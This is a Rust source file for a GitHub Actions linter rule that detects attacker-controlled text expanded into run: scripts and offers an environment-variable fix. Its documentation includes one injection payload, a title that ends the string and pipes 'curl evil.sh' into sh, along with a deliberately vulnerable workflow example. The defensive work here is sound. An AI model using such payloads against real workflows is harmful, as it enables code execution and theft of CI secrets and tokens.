//! `expression-injection`: attacker-controlled text expanded into a script.

use super::{
    Applicability, Confidence, Edit, Findings, Fix, Platform, Reference, Rule, RuleDocs, RuleMeta, Severity,
    StepContext,
};
use crate::matrix::{OwaspCicd, Technique};
use crate::model::Text;
use crate::model::contexts;
use crate::model::expr::{ContextRef, Expression};
use crate::model::github::Step;

pub struct ExpressionInjection;

static META: RuleMeta = RuleMeta {
    id: "expression-injection",
    technique: Technique::EX06,
    severity: Severity::High,
    confidence: Confidence::High,
    platforms: &[Platform::GithubActions],
    docs: RuleDocs {
        summary: "Attacker-controlled text is expanded into a script",
        detects: "A `${{ }}` expression that reads a context an outsider can set (issue, pull \
request, comment and review titles and bodies, branch names, commit messages, author names) \
inside a `run:` script or the `script:` of `actions/github-script`.",
        why: "GitHub substitutes the expression into the script text before the shell or Node \
runs it. Whoever writes the title or the branch name writes part of the script: a title like \
`\"; curl evil.sh | sh; #` ends the string and runs their command on the runner, with the job's \
token and secrets.",
        attack: "Execution › Modify CI/CD configurations (EX06): the attacker rewrites the \
commands the step runs without touching the repository. From there, Credential Access (CA02) \
reads the job's secrets and `GITHUB_TOKEN`, and on privileged triggers such as \
`pull_request_target` or `issue_comment` that token can write to the repository.",
        example: r#"on: issues
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: echo "New issue ${{ github.event.issue.title }}"
"#,
        fixed_example: r#"on: issues
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - env:
          ISSUE_TITLE: ${{ github.event.issue.title }}
        run: echo "New issue ${ISSUE_TITLE}"
"#,
        fix: "Pass the value through an environment variable and use the variable in the \
script (`\"$ISSUE_TITLE\"` in a shell, `process.env.ISSUE_TITLE` in `github-script`): the value \
is then data, never code. The quick fix does exactly that. It is marked unsafe because a \
script that relied on the text being pasted in (for example unquoted, to split it into words) \
behaves differently; quote the variable where it is used.",
    },
    references: &[
        Reference::Owasp(OwaspCicd::Sec4),
        Reference::Cwe(94, "Improper Control of Generation of Code ('Code Injection')"),
        Reference::Zizmor("template-injection"),
        Reference::Actionlint("expression"),
        Reference::Poutine("injection"),
        Reference::CodeQl("actions/code-injection/critical"),
        Reference::Link(
            "GitHub: Security hardening, understanding the risk of script injections",
            "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
        ),
    ],
};

impl Rule for ExpressionInjection {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn check_step(&self, context: &StepContext<'_>, step: &Step, out: &mut Findings) {
        let privileged = match context {
            StepContext::Workflow { header, .. } => {
                header.triggers.events.iter().any(|trigger| trigger.event.is_privileged_for_outsiders())
            }
            StepContext::Action { .. } => false,
        };
        let targets = [
            step.run.as_ref().map(|run| (&run.text, Sink::Shell)),
            step.uses_action("actions/github-script")
                .then(|| step.input("script").and_then(|input| input.value.as_ref()))
                .flatten()
                .map(|script| (script, Sink::JavaScript)),
        ];
        for (text, sink) in targets.into_iter().flatten() {
            for expression in &text.expressions {
                for context_ref in expression.contexts.iter().filter(|c| c.reaches_result && is_untrusted(c)) {
                    let finding = out.report(context_ref.span, message(context_ref, sink));
                    if privileged {
                        finding.with_severity(Severity::Critical);
                    }
                    if let Some(fix) = env_var_fix(step, text, expression, context_ref, sink) {
                        finding.with_fix(fix);
                    }
                }
            }
        }
    }
}

#[derive(Clone, Copy)]
enum Sink {
    Shell,
    JavaScript,
}

fn is_untrusted(context: &ContextRef) -> bool {
    contexts::is_attacker_controlled(&context.path)
}

fn message(context: &ContextRef, sink: Sink) -> String {
    let place = match sink {
        Sink::Shell => "the `run:` script",
        Sink::JavaScript => "the `github-script` code",
    };
    format!(
        "`{}` is set by whoever triggers the workflow and is pasted into {place}: they can make it run their own commands",
        context.path
    )
}

/// Moves the value into an environment variable of the step, when the expression is just the
/// untrusted path and the step's `env:` can be extended.
fn env_var_fix(step: &Step, text: &Text, expression: &Expression, context: &ContextRef, sink: Sink) -> Option<Fix> {
    if expression.source != context.path || text.span.unit != expression.span.unit {
        return None;
    }
    let name = env_name(&context.path, step)?;
    let reference = match sink {
        Sink::Shell => format!("${{{name}}}"),
        Sink::JavaScript => format!("process.env.{name}"),
    };
    let entry = format!("{name}: ${{{{ {} }}}}", expression.source);
    let declare = match &step.env.block {
        Some(block) => {
            let column = block.entry_column? as usize;
            Edit::insert(block.last_entry_end, format!("\n{}{entry}", " ".repeat(column)))
        }
        None => {
            let column = step.key_column? as usize;
            Edit::insert(step.first_key, format!("env:\n{}{entry}\n{}", " ".repeat(column + 2), " ".repeat(column)))
        }
    };
    Some(Fix {
        title: format!("Pass `{}` through the environment variable `{name}`", context.path),
        applicability: Applicability::Unsafe,
        edits: vec![declare, Edit::replace(expression.span, reference)],
    })
}

/// An environment variable name for a path, e.g. `ISSUE_TITLE` for
/// `github.event.issue.title`, that the step does not already use.
fn env_name(path: &str, step: &Step) -> Option<String> {
    let segments: Vec<&str> = path.split('.').filter(|s| *s != "*" && *s != "github" && *s != "event").collect();
    let tail = &segments[segments.len().saturating_sub(2)..];
    let base: String = tail.join("_").to_ascii_uppercase().replace('-', "_");
    if base.is_empty() {
        return None;
    }
    (0..100)
        .map(|n| if n == 0 { base.clone() } else { format!("{base}_{n}") })
        .find(|candidate| step.env.get(candidate).is_none())
}
